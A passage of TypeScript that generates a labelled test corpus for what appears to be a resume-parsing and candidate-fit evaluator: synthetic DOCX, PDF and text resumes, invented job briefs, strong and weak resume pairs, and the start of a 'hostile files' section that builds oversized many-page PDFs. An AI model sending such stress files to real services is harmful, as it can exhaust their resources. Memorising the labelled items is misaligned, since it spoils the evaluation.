      case 'para': children.push(new Paragraph({ children: [new TextRun(clean(b.text))] })); break;
      case 'row': {
        const leftText = b.gutter ?? null;
        if (leftText !== null || (b.right && look.docxTable)) {
          const cells = leftText !== null
            ? [[new Paragraph({ children: [new TextRun(clean(leftText))] })], [new Paragraph({ children: b.left.map((s) => run(s)) })]]
            : [[new Paragraph({ children: b.left.map((s) => run(s)) })], [new Paragraph({ alignment: AlignmentType.RIGHT, children: [new TextRun(clean(b.right ?? ''))] })]];
          const widths = leftText !== null ? [2600, 6760] : [6760, 2600];
          children.push(new Table({
            width: { size: 9360, type: WidthType.DXA }, columnWidths: widths, borders: noBorders,
            rows: [new TableRow({ children: cells.map((c, i) => new TableCell({ width: { size: widths[i], type: WidthType.DXA }, children: c })) })],
          }));
        } else if (b.right) {
          children.push(new Paragraph({
            tabStops: [{ type: TabStopType.RIGHT, position: 9360 }],
            children: [...b.left.map((s) => run(s)), new TextRun({ children: [new Tab(), clean(b.right)] })],
          }));
        } else children.push(new Paragraph({ children: b.left.map((s) => run(s)) }));
        break;
      }
      case 'bullet':
        children.push(new Paragraph({
          ...(look.docxBuiltinBullets ? { bullet: { level: 0 } } : { numbering: { reference: 'resume-bullets', level: 0 } }),
          children: [new TextRun(clean(b.text))],
        }));
        break;
      case 'skillline': children.push(new Paragraph({ children: [new TextRun({ text: `${b.label}: `, bold: true }), new TextRun(clean(b.text))] })); break;
      case 'gap': children.push(new Paragraph({ children: [] })); break;
    }
  }
  const font = look.serif ? 'Georgia' : look.center ? 'Arial' : 'Calibri';
  return new Document({
    // Half the files carry the candidate's name as the author, as Word does; the rest a generic one.
    creator: look.rule ? 'Microsoft Office User' : clean(p.name), title: `Resume – ${clean(p.name)}`, description: 'Resume',
    styles: { default: { document: { run: { font, size: 21 } } } },
    numbering: {
      config: [{
        reference: 'resume-bullets',
        levels: [{ level: 0, format: LevelFormat.BULLET, text: look.center ? '▪' : '•', alignment: AlignmentType.LEFT, style: { paragraph: { indent: { left: 520, hanging: 260 } } } }],
      }],
    },
    sections: [{
      ...(headerLines.length ? { headers: { default: new Header({ children: headerLines.map((l) => new Paragraph({ alignment: AlignmentType.CENTER, children: [new TextRun({ text: clean(l), size: 18 })] })) }) } } : {}),
      children,
    }],
  });
}

/** Word's page count is a layout result; this estimates it from line counts (Letter, 1" margins, 10.5 pt). */
function estimateDocxPages(blocks: Block[], contactInHeader: boolean): number {
  let lines = 0;
  const per = (s: string, n: number): number => Math.max(1, Math.ceil(clean(s).length / n));
  for (const b of blocks) {
    switch (b.t) {
      case 'name': lines += 3; break;
      case 'headline': lines += 1.2; break;
      case 'contact': lines += contactInHeader ? 0 : b.lines.length * 1.2; break;
      case 'heading': lines += 2.2; break;
      case 'para': lines += per(b.text, 100) * 1.15 + 0.6; break;
      case 'row': lines += 1.2; break;
      case 'bullet': lines += per(b.text, 92) * 1.15 + 0.2; break;
      case 'skillline': lines += per(`${b.label}: ${b.text}`, 100) * 1.15 + 0.4; break;
      case 'gap': lines += 1; break;
    }
  }
  return Math.max(1, Math.ceil(lines / 46));
}

// ---------------------------------------------------------------------------------------------------------------------
// ZIP: a small deterministic writer and reader (stored/deflated entries, no zip64)

interface ZipEntry { name: string; method: 0 | 8; crc: number; size: number; payload: Buffer }
const DOS_TIME = (9 << 11) | (30 << 5);
const DOS_DATE = ((2025 - 1980) << 9) | (1 << 5) | 15;

function zipEntry(name: string, data: Buffer | string, deflate = true): ZipEntry {
  const buf = typeof data === 'string' ? Buffer.from(data, 'utf8') : data;
  return { name, method: deflate ? 8 : 0, crc: zlib.crc32(buf), size: buf.length, payload: deflate ? zlib.deflateRawSync(buf, { level: 9 }) : buf };
}

/** `base` is where the zip starts in the final file (for a zip appended to something else). */
function zipFiles(entries: ZipEntry[], base = 0): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt16LE(DOS_TIME, 10);
    local.writeUInt16LE(DOS_DATE, 12);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.payload.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt16LE(DOS_TIME, 12);
    central.writeUInt16LE(DOS_DATE, 14);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.payload.length, 20);
    central.writeUInt32LE(e.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(base + offset, 42);
    locals.push(local, name, e.payload);
    centrals.push(central, name);
    offset += 30 + name.length + e.payload.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(base + offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** Entries of a zip by its central directory (the DOCX files docx writes: no zip64, no comment). */
function unzipFiles(zip: Buffer): { name: string; data: Buffer }[] {
  const eocd = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  if (eocd < 0) throw new Error('not a zip');
  const count = zip.readUInt16LE(eocd + 10);
  let at = zip.readUInt32LE(eocd + 16);
  const out: { name: string; data: Buffer }[] = [];
  for (let i = 0; i < count; i++) {
    const method = zip.readUInt16LE(at + 10);
    const csize = zip.readUInt32LE(at + 20);
    const nameLen = zip.readUInt16LE(at + 28);
    const extraLen = zip.readUInt16LE(at + 30);
    const commentLen = zip.readUInt16LE(at + 32);
    const local = zip.readUInt32LE(at + 42);
    const name = zip.toString('utf8', at + 46, at + 46 + nameLen);
    const dataAt = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
    const raw = zip.subarray(dataAt, dataAt + csize);
    out.push({ name, data: method === 8 ? zlib.inflateRawSync(raw) : Buffer.from(raw) });
    at += 46 + nameLen + extraLen + commentLen;
  }
  return out;
}

function normalizeDocx(zip: Buffer, pages: number, words: number): Buffer {
  const stamp = CREATED.toISOString().replace(/\.\d+Z$/, 'Z');
  const entries = unzipFiles(zip).map(({ name, data }) => {
    let text: string | null = null;
    if (name === 'docProps/core.xml') text = data.toString('utf8').replace(/(<dcterms:(?:created|modified)[^>]*>)[^<]*/g, `$1${stamp}`);
    if (name === 'docProps/app.xml') {
      text = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties" '
        + 'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><Application>Microsoft Office Word</Application>'
        + `<Pages>${pages}</Pages><Words>${words}</Words></Properties>`;
    }
    return zipEntry(name, text ?? data);
  });
  return zipFiles(entries);
}

async function renderDocx(p: Person, blocks: Block[], look: Look): Promise<{ bytes: Buffer; pages: number }> {
  const raw = await Packer.toBuffer(renderDocxDocument(p, blocks, look));
  const pages = estimateDocxPages(blocks, look.docxHeaderContact);
  const words = blocks.map((b) => ('text' in b ? b.text : b.t === 'row' ? b.left.map((s) => s.text).join(' ') : '')).join(' ').split(/\s+/).length;
  return { bytes: normalizeDocx(raw, pages, words), pages };
}

// ---------------------------------------------------------------------------------------------------------------------
// One file from a spec

interface FileSpec extends Omit<PersonSpec, 'latin1' | 'dateKind'> { id: string; format: CorpusFormat; index: number; dateKind?: DateKind }
const DATE_KINDS: DateKind[] = ['mon', 'num', 'ap', 'full', 'year', 'iso', 'mon'];

interface Rendered { file: CorpusFile; person: Person; look: Look; blocks: Block[] }

async function renderFile(spec: FileSpec, extra: { pdfOptions?: Record<string, unknown>; after?: (doc: PdfDoc) => void } = {}): Promise<Rendered> {
  const rng = makeRng(spec.id);
  const dateKind = spec.dateKind ?? DATE_KINDS[(spec.index + hashSeed(spec.format)) % DATE_KINDS.length];
  const pdf = spec.format === 'pdf-1col' || spec.format === 'pdf-2col';
  const person = makePerson(rng, { ...spec, latin1: pdf, dateKind });
  const look = makeLook(rng, spec.format, spec.index, { junior: spec.years < 2, tech: person.tech, long: spec.long === true });
  const blocks = blocksFor(rng, person, look);
  const info = look.rule ? { Title: 'Resume' } : { Title: `${clean(person.name)} – Resume`, Author: clean(person.name) };
  const options = { size: look.a4 ? 'A4' : 'LETTER', margin: 40, info, ...extra.pdfOptions };
  let out: { bytes: Buffer; pages: number };
  switch (spec.format) {
    case 'pdf-1col':
      out = await pdfBytes(options, (doc) => { renderPdf1(doc, blocks, look, person.name); extra.after?.(doc); });
      break;
    case 'pdf-2col':
      out = await pdfBytes(options, (doc) => { renderPdf2(doc, rng, person, look); extra.after?.(doc); });
      break;
    case 'docx': out = await renderDocx(person, blocks, look); break;
    case 'txt': out = { bytes: renderTxt(blocks, look), pages: 1 }; break;
  }
  return { file: { id: spec.id, format: spec.format, bytes: out.bytes, truth: truthOf(person), pages: out.pages }, person, look, blocks };
}

// ---------------------------------------------------------------------------------------------------------------------
// The corpus

const FORMATS: CorpusFormat[] = ['pdf-1col', 'pdf-2col', 'docx', 'txt'];
const PER_FORMAT: Record<CorpusFormat, number> = { 'pdf-1col': 11, 'pdf-2col': 10, docx: 10, txt: 10 };
const FAMILY_CYCLE = [
  'backend', 'frontend', 'dataeng', 'ml', 'devops', 'analyst', 'ios', 'designer', 'qa', 'manager', 'fullstack', 'android', 'pm',
  'marketing', 'dotnet', 'mobilex', 'rails', 'support', 'systems', 'sales', 'teacher', 'retail', 'accounting',
];
const YEARS = [0.8, 1.5, 3, 4.5, 6, 8, 11, 14, 2.5, 9, 5];
const SHORT: Record<CorpusFormat, string> = { 'pdf-1col': 'pdf1', 'pdf-2col': 'pdf2', docx: 'docx', txt: 'txt' };
const EXT: Record<CorpusFormat, string> = { 'pdf-1col': 'pdf', 'pdf-2col': 'pdf', docx: 'docx', txt: 'txt' };

function corpusSpecs(): FileSpec[] {
  const specs: FileSpec[] = [];
  let g = 0;
  const max = Math.max(...Object.values(PER_FORMAT));
  for (let index = 0; index < max; index++) {
    for (const format of FORMATS) {
      if (index >= PER_FORMAT[format]) continue;
      const family = FAMILY_CYCLE[g % FAMILY_CYCLE.length];
      // Some files are long enough for two pages.
      const long = (format === 'pdf-2col' && index % 4 === 0) || (format !== 'pdf-2col' && index % 4 === 3);
      const years = long ? 9 + (index % 5) : YEARS[(g * 7) % YEARS.length];
      const jobs = long ? 4 : years < 1.5 ? 1 : years < 4 ? 1 + (g % 2) : years < 8 ? 2 + (g % 2) : 2 + (g % 3);
      specs.push({
        id: `${SHORT[format]}-${String(index + 1).padStart(2, '0')}`, format, index, family, years, jobs,
        long, bullets: long ? [5, 5] : format === 'pdf-2col' ? [3, 4] : [3, 5], aliasRate: index % 3 === 0 ? 0.6 : 0.25,
      });
      g++;
    }
  }
  return specs;
}

/** The labelled corpus: 41 files (11 one-column PDFs, 10 two-column PDFs, 10 DOCX, 10 plain text). */
export async function buildCorpus(): Promise<CorpusFile[]> {
  const out: CorpusFile[] = [];
  for (const spec of corpusSpecs()) {
    const r = await renderFile(spec);
    out.push({ ...r.file, id: `${spec.id}-${handle(r.person.name.split(' ')[0])}-${handle(r.person.name.split(' ').slice(-1)[0])}` });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------------
// Fit pairs

interface RoleSpec {
  role: string; family: string; company: string; years: number; must: string[]; nice: string[]; degree: string | null;
  about: string; duties: string[]; otherField: string;
}

const ROLES: RoleSpec[] = [
  { role: 'Senior Backend Engineer', family: 'backend', company: 'Kestrel Payments', years: 5, must: ['Java', 'Spring Boot', 'PostgreSQL', 'Kafka', 'Microservices', 'AWS'], nice: ['Kubernetes', 'Redis', 'gRPC'], degree: "Bachelor's degree in Computer Science or a related field", about: 'We move money for 4 million small businesses and our payment APIs must never go down.', duties: ['Design and build payment services that handle thousands of requests per second', 'Own services end to end, from design review to on-call'], otherField: 'marketing' },
  { role: 'Backend Engineer (Go)', family: 'backend', company: 'Zephyr Mobility', years: 3, must: ['Go', 'PostgreSQL', 'gRPC', 'Docker', 'Kubernetes'], nice: ['Kafka', 'Prometheus', 'Google Cloud Platform'], degree: null, about: 'Our routing platform dispatches 200,000 rides a day across 40 cities.', duties: ['Build and operate the services behind ride dispatch and pricing', 'Improve latency and reliability of internal APIs'], otherField: 'retail' },
  { role: 'Python Backend Developer', family: 'backend', company: 'Nimbus Learning', years: 3, must: ['Python', 'Django', 'PostgreSQL', 'REST APIs', 'Docker'], nice: ['FastAPI', 'Redis', 'AWS'], degree: null, about: 'We build an online learning platform used by 2,000 schools.', duties: ['Build APIs for our course and grading products', 'Work closely with front-end engineers and designers'], otherField: 'teacher' },
  { role: 'Senior Data Engineer', family: 'dataeng', company: 'Bluefin Insights', years: 5, must: ['Python', 'SQL', 'Apache Spark', 'Airflow', 'Snowflake'], nice: ['dbt', 'Kafka', 'AWS', 'Terraform'], degree: "Bachelor's degree in Computer Science, Engineering or similar", about: 'We run the data platform behind pricing for 300 retailers.', duties: ['Design batch and streaming pipelines', 'Own data quality and warehouse performance'], otherField: 'sales' },
  { role: 'Analytics Engineer', family: 'dataeng', company: 'Trellis Commerce', years: 2, must: ['SQL', 'dbt', 'Snowflake', 'Python'], nice: ['Airflow', 'Tableau', 'Git'], degree: null, about: 'Help our analysts move faster with clean, tested data models.', duties: ['Model core business data in the warehouse', 'Partner with analysts on metrics definitions'], otherField: 'accounting' },
  { role: 'Senior Front-End Engineer', family: 'frontend', company: 'Solstice Games', years: 5, must: ['TypeScript', 'React', 'Redux', 'HTML', 'CSS', 'Jest'], nice: ['Next.js', 'GraphQL', 'Cypress', 'Figma'], degree: null, about: 'We make the storefront and community pages for 12 million players.', duties: ['Build fast, accessible interfaces', 'Mentor other front-end engineers'], otherField: 'accounting' },
  { role: 'Front-End Developer (Vue)', family: 'frontend', company: 'Lighthouse Learning', years: 2, must: ['JavaScript', 'Vue.js', 'HTML', 'CSS'], nice: ['TypeScript', 'Tailwind CSS', 'Cypress'], degree: null, about: 'A small product team building tools for teachers.', duties: ['Build new features in our Vue application', 'Keep the interface accessible and quick'], otherField: 'support' },
  { role: 'Machine Learning Engineer', family: 'ml', company: 'Foxglove Health', years: 3, must: ['Python', 'PyTorch', 'Machine Learning', 'Docker', 'AWS'], nice: ['Kubernetes', 'Apache Spark', 'Airflow'], degree: "MSc or PhD in Computer Science, Statistics or a related field", about: 'We use models to flag risky patient cases earlier.', duties: ['Train, evaluate and deploy models', 'Build the serving and monitoring stack'], otherField: 'teacher' },
  { role: 'NLP Engineer', family: 'ml', company: 'Quillfeather Media', years: 3, must: ['Python', 'Natural Language Processing', 'PyTorch', 'Deep Learning'], nice: ['TensorFlow', 'Kubernetes', 'Elasticsearch'], degree: 'Degree in Computer Science, Linguistics or a related field', about: 'Search and recommendation for a 40-year news archive.', duties: ['Build models for entity extraction and semantic search', 'Run offline and online evaluations'], otherField: 'marketing' },
  { role: 'DevOps Engineer', family: 'devops', company: 'Harborview Bank', years: 4, must: ['Linux', 'Terraform', 'Kubernetes', 'Docker', 'CI/CD', 'AWS'], nice: ['Ansible', 'Python', 'Prometheus'], degree: null, about: 'Regulated infrastructure for a digital bank with 1 million customers.', duties: ['Own our cloud infrastructure and deployment pipelines', 'Improve security and compliance automation'], otherField: 'retail' },
  { role: 'Senior Site Reliability Engineer', family: 'devops', company: 'Orchid Telecom', years: 5, must: ['Kubernetes', 'Prometheus', 'Grafana', 'Linux', 'Go', 'Terraform'], nice: ['Google Cloud Platform', 'Bash', 'Kafka'], degree: null, about: 'Keep a nationwide messaging platform at 99.99% availability.', duties: ['Define SLOs and drive reliability work', 'Lead incident response and postmortems'], otherField: 'sales' },
  { role: 'Platform Engineer (Azure)', family: 'devops', company: 'Amberfield Insurance', years: 3, must: ['Microsoft Azure', 'Terraform', 'Kubernetes', 'GitHub Actions'], nice: ['Ansible', 'Python', 'Bash'], degree: null, about: 'Build the internal platform our 30 product teams deploy to.', duties: ['Build golden paths for service deployment', 'Run our shared clusters'], otherField: 'accounting' },
  { role: 'Senior iOS Developer', family: 'ios', company: 'Kingfisher Mobile', years: 5, must: ['Swift', 'iOS', 'REST APIs', 'Git'], nice: ['GraphQL', 'CI/CD', 'Figma'], degree: null, about: 'Our banking app has a 4.8 rating and we intend to keep it.', duties: ['Build new features in Swift', 'Own app performance and release quality'], otherField: 'support' },
  { role: 'Android Developer', family: 'android', company: 'Tidewater Travel', years: 3, must: ['Kotlin', 'Android', 'Java', 'REST APIs'], nice: ['GraphQL', 'CI/CD', 'Jira'], degree: null, about: 'Booking app used by 5 million travellers.', duties: ['Build booking and check-in features', 'Improve crash rates and start-up time'], otherField: 'retail' },
  { role: 'Mobile Engineer (React Native)', family: 'mobilex', company: 'Saffron Foods', years: 3, must: ['React Native', 'TypeScript', 'iOS', 'Android', 'Redux'], nice: ['Jest', 'Flutter', 'GraphQL'], degree: null, about: 'Grocery delivery app in 14 cities.', duties: ['Ship features to both app stores every two weeks', 'Work with designers and backend engineers'], otherField: 'marketing' },
  { role: 'Data Analyst', family: 'analyst', company: 'Yellowtail Markets', years: 2, must: ['SQL', 'Excel', 'Tableau', 'Data Analysis'], nice: ['Python', 'Pandas', 'BigQuery'], degree: "Bachelor's degree in Statistics, Economics, Mathematics or similar", about: 'Help store and category managers make better decisions.', duties: ['Build dashboards and answer business questions', 'Present findings to managers'], otherField: 'teacher' },
  { role: 'Business Intelligence Analyst', family: 'analyst', company: 'Evergreen Utilities', years: 3, must: ['SQL', 'Power BI', 'Excel', 'Data Analysis', 'Snowflake'], nice: ['Python', 'dbt'], degree: null, about: 'Reporting for a utility with 2 million customers.', duties: ['Own executive reporting', 'Automate recurring reports'], otherField: 'retail' },
  { role: 'Engineering Manager', family: 'manager', company: 'Cedar Harbor Software', years: 8, must: ['Leadership', 'Agile', 'Scrum', 'Project Management', 'Microservices'], nice: ['AWS', 'Jira', 'Kubernetes'], degree: null, about: 'Lead two teams building our billing platform. 8+ years in software, 2+ managing engineers.', duties: ['Hire, coach and grow engineers', 'Own delivery and technical direction'], otherField: 'support' },
  { role: 'Senior Product Designer', family: 'designer', company: 'Brightline Health', years: 5, must: ['Figma', 'Agile'], nice: ['HTML', 'CSS', 'Jira'], degree: null, about: 'Design the patient app used by 800,000 people. Portfolio required.', duties: ['Lead design from user research to polished interfaces', 'Run usability testing and prototyping'], otherField: 'accounting' },
  { role: 'QA Automation Engineer', family: 'qa', company: 'Pinecrest Insurance', years: 3, must: ['Selenium', 'Java', 'CI/CD', 'Jenkins', 'SQL'], nice: ['Cypress', 'Python', 'Jira', 'Agile'], degree: null, about: 'Build the automated test suites behind our quoting platform.', duties: ['Write and maintain end-to-end suites', 'Define release quality gates'], otherField: 'sales' },
  { role: 'Full-Stack Engineer', family: 'fullstack', company: 'Indigo Loop', years: 3, must: ['TypeScript', 'React', 'Node.js', 'Express', 'PostgreSQL'], nice: ['Docker', 'AWS', 'GraphQL'], degree: null, about: 'Early-stage team building scheduling software for clinics.', duties: ['Ship features across the stack', 'Talk to customers and shape the roadmap'], otherField: 'marketing' },
  { role: 'Senior .NET Developer', family: 'dotnet', company: 'Opal Street Bank', years: 5, must: ['C#', '.NET', 'Microsoft Azure', 'SQL', 'REST APIs'], nice: ['Angular', 'Docker', 'Microservices'], degree: "Bachelor's degree in Computer Science or equivalent experience", about: 'Modernise core lending systems.', duties: ['Build and maintain lending services', 'Move legacy services to the cloud'], otherField: 'teacher' },
  { role: 'Ruby on Rails Developer', family: 'rails', company: 'Upland Outdoor', years: 3, must: ['Ruby', 'Ruby on Rails', 'PostgreSQL', 'Redis'], nice: ['Docker', 'AWS', 'JavaScript'], degree: null, about: 'Our shop sells outdoor gear to 600,000 customers.', duties: ['Build storefront and checkout features', 'Keep the monolith healthy'], otherField: 'retail' },
  { role: 'Cloud Architect', family: 'devops', company: 'Granite Peak Capital', years: 8, must: ['AWS', 'Terraform', 'Kubernetes', 'Microservices', 'Distributed Systems'], nice: ['Microsoft Azure', 'Google Cloud Platform', 'Python'], degree: null, about: 'Set the cloud architecture for a multi-region trading platform.', duties: ['Own reference architectures and reviews', 'Guide teams through migrations'], otherField: 'sales' },
  { role: 'Technical Project Manager', family: 'pm', company: 'Larkspur Pharma', years: 5, must: ['Project Management', 'Agile', 'Scrum', 'Jira'], nice: ['Excel', 'Power BI', 'Leadership'], degree: null, about: 'Run delivery for our lab systems programme.', duties: ['Plan and track delivery across four teams', 'Report status and risks to leadership'], otherField: 'teacher' },
  { role: 'Data Scientist', family: 'ml', company: 'Goldcrest Airlines', years: 3, must: ['Python', 'scikit-learn', 'Pandas', 'SQL', 'Machine Learning'], nice: ['TensorFlow', 'Tableau', 'Apache Spark'], degree: "Master's degree in a quantitative field", about: 'Forecast demand and set prices across 200 routes.', duties: ['Build forecasting and pricing models', 'Explain results to commercial teams'], otherField: 'marketing' },
  { role: 'Senior Systems Engineer (C++)', family: 'systems', company: 'Redwood Robotics', years: 6, must: ['C++', 'Linux', 'Distributed Systems', 'Python'], nice: ['Rust', 'Docker', 'gRPC'], degree: "Bachelor's degree in Computer Science or Computer Engineering", about: 'Control software for warehouse robots.', duties: ['Build low-latency control and messaging software', 'Profile and optimise hot paths'], otherField: 'retail' },
  { role: 'Lead QA Engineer', family: 'qa', company: 'Goldcrest Airlines', years: 6, must: ['Cypress', 'JavaScript', 'Jest', 'CI/CD', 'Agile'], nice: ['Selenium', 'GitHub Actions', 'Jira'], degree: null, about: 'Lead testing for our booking website and apps.', duties: ['Lead a team of four testers', 'Own the test strategy'], otherField: 'support' },
];

const jdSkill = (s: string): string => (s === 'Go' ? 'Go (golang)' : s);
const listJoin = (items: string[]): string => (items.length <= 1 ? items.join('') : `${items.slice(0, -1).join(', ')} and ${items[items.length - 1]}`);

function jobDescription(rng: Rng, r: RoleSpec): string {
  const lines: string[] = [];
  const seniority = /Senior|Lead|Architect|Manager/.test(r.role) ? rng.pick(['senior', 'seasoned', 'experienced']) : rng.pick(['mid-level', 'motivated', 'capable']);
  lines.push(`${r.company} is hiring ${article(r.role)} ${r.role}. We are looking for ${article(seniority)} ${seniority} person to join us.`);
  lines.push(r.about);
  lines.push('');
  lines.push(rng.pick(["What you'll do:", 'Responsibilities:']));
  for (const d of r.duties) lines.push(`- ${d}`);
  lines.push('');
  lines.push(rng.pick(['Requirements:', 'Must have:']));
  lines.push(`- ${r.years}+ years of experience ${r.family === 'manager' ? 'in software engineering' : `as ${article(r.role)} ${r.role.replace(/^(Senior|Lead) /, '').replace(/ \(.*\)$/, '')} or similar`}`);
  const must = r.must.map(jdSkill);
  for (let i = 0; i < must.length; i += 2) {
    const chunk = must.slice(i, i + 2);
    lines.push(`- ${rng.pick(['Strong, hands-on experience with', 'Production experience with', 'Solid knowledge of'])} ${listJoin(chunk)}`);
  }
  if (r.degree) lines.push(`- ${r.degree}`);
  lines.push('');
  lines.push(rng.pick(['Nice to have:', 'Preferred:']));
  lines.push(`- ${rng.pick(['Experience with', 'Familiarity with'])} ${listJoin(r.nice.map(jdSkill))}`);
  return lines.join('\n');
}

type WeakKind = 'stuffer' | 'other-field' | 'junior';

/** Months of experience the truth adds up to (a current role runs to the corpus's "now", January 2026). */
function truthMonths(t: ResumeTruth): number {
  const idx = (s: string): number => Number(s.slice(0, 4)) * 12 + Number(s.slice(5, 7)) - 1;
  return t.experience.reduce((sum, e) => sum + (e.end === null ? NOW : idx(e.end)) - idx(e.start), 0);
}

/** Brief/resume pairs: the strong resume fits the brief; the weak one is another field, too junior, or a keyword stuffer. */
export async function buildFitPairs(): Promise<FitPair[]> {
  const pairs: FitPair[] = [];
  for (const [i, r] of ROLES.entries()) {
    const rng = makeRng(`pair:${i}`);
    const num = String(i + 1).padStart(2, '0');
    const strongYears = r.years + rng.int(1, 5) + 0.5;
    const strongFormat = FORMATS[i % 4];
    const weakFormat = FORMATS[(i + 1 + (i >> 2)) % 4];
    const strong = await renderFile({
      id: `pair-${num}-strong`, format: strongFormat, index: i, family: r.family, years: strongYears,
      jobs: Math.min(4, 2 + (i % 3)), use: [...r.must, ...rng.sample(r.nice, rng.int(1, 2))],
      bullets: strongFormat === 'pdf-2col' ? [3, 4] : [3, 5], degree: r.degree?.startsWith('MSc') || r.degree?.startsWith('Master') ? 'master' : 'bachelor',
    });
    const kind: WeakKind = i % 3 === 0 ? 'stuffer' : i % 3 === 1 ? 'other-field' : 'junior';
    let weak: Rendered;
    let note: string;
    if (kind === 'stuffer') {
      const months = rng.int(8, 16);
      weak = await renderFile({
        id: `pair-${num}-weak`, format: weakFormat, index: i + 1, family: i % 2 === 0 ? 'vague' : 'support', years: months / 12,
        jobs: months > 14 ? 2 : 1, stuffer: true, listOnly: [...r.must, ...r.nice], bullets: [2, 4],
      });
      note = `strong: ${strong.person.jobs[0].title}, ${Math.floor(strongYears)} years, every required skill used in dated roles; `
        + `weak: keyword stuffer — the skills section lists all ${r.must.length + r.nice.length} required and preferred skills but no role uses any of them; ${truthMonths(weak.file.truth)} months of experience as ${weak.person.jobs[0].title}`;
    } else if (kind === 'other-field') {
      const years = rng.int(4, 10);
      weak = await renderFile({ id: `pair-${num}-weak`, format: weakFormat, index: i + 1, family: r.otherField, years, jobs: rng.int(2, 3) });
      note = `strong: ${strong.person.jobs[0].title} with ${Math.floor(strongYears)} years; weak: ${years} years in a different field (${weak.person.jobs[0].title}), few or none of the required skills`;
    } else {
      const months = rng.int(6, 14);
      const use = rng.sample(r.must, 1);
      weak = await renderFile({ id: `pair-${num}-weak`, format: weakFormat, index: i + 1, family: r.family, years: months / 12, jobs: 1, use, avoid: [...r.must, ...r.nice], bullets: [2, 3] });
      note = `strong: ${strong.person.jobs[0].title} with ${Math.floor(strongYears)} years; weak: junior (${weak.person.jobs[0].title}, ${truthMonths(weak.file.truth)} months), uses only ${use.join(', ')} of the ${r.must.length} required skills; brief asks for ${r.years}+ years`;
    }
    pairs.push({ brief: { role: r.role, job_description: jobDescription(rng, r) }, strong: strong.file, weak: weak.file, note });
  }
  return pairs;
}

// ---------------------------------------------------------------------------------------------------------------------
// Hostile files

/** Assembles a PDF from object bodies (object n is bodies[n-1]) with a correct xref table. */
function assemblePdf(bodies: (string | Buffer)[], extraTrailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0].length;
  const offsets: number[] = [];
  bodies.forEach((body, i) => {
    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), typeof body === 'string' ? Buffer.from(body, 'latin1') : body, Buffer.from('\nendobj\n', 'latin1')]);
    offsets.push(offset);
    parts.push(chunk);
    offset += chunk.length;
  });
  const xref = [`xref\n0 ${bodies.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R${extraTrailer} >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const streamObj = (data: Buffer, dict = ''): Buffer =>
  Buffer.concat([Buffer.from(`<< /Length ${data.length}${dict} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);

const FONT_OBJ = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>';

/** A PDF whose `pageCount` pages share one content stream; the page tree has intermediate nodes of 100 kids. */
function manyPagesPdf(pageCount: number, content: Buffer, contentDict: string): Buffer {
  // 1 catalog, 2 root Pages, 3 font, 4 content, then intermediate Pages nodes, then leaves.
  const fanout = 100;
  const groups = Math.ceil(pageCount / fanout);
  const firstGroup = 5;
  const firstLeaf = firstGroup + groups;
  const bodies: (string | Buffer)[] = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${Array.from({ length: groups }, (_, g) => `${firstGroup + g} 0 R`).join(' ')}] /Count ${pageCount} /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> >>`,
    FONT_OBJ,
    streamObj(content, contentDict),
  ];
  for (let g = 0; g < groups; g++) {
    const kids = Array.from({ length: Math.min(fanout, pageCount - g * fanout) }, (_, k) => `${firstLeaf + g * fanout + k} 0 R`);
    bodies.push(`<< /Type /Pages /Parent 2 0 R /Kids [${kids.join(' ')}] /Count ${kids.length} >>`);
  }
  for (let p = 0; p < pageCount; p++) bodies.push(`<< /Type /Page /Parent ${firstGroup + Math.floor(p / fanout)} 0 R /Contents 4 0 R >>`);
  return assemblePdf(bodies);
}

function pngGray(width: number, height: number, pixel: (x: number, y: number) => number): Buffer {
  const raw = Buffer.alloc((width + 1) * height);
  for (let y = 0; y < height; y++) {
    raw[y * (width + 1)] = 0;
    for (let x = 0; x < width; x++) raw[y * (width + 1) + 1 + x] = pixel(x, y);
  }
  const chunk = (type: string, data: Buffer): Buffer => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const td = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(zlib.crc32(td) >>> 0);
    return Buffer.concat([len, td, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
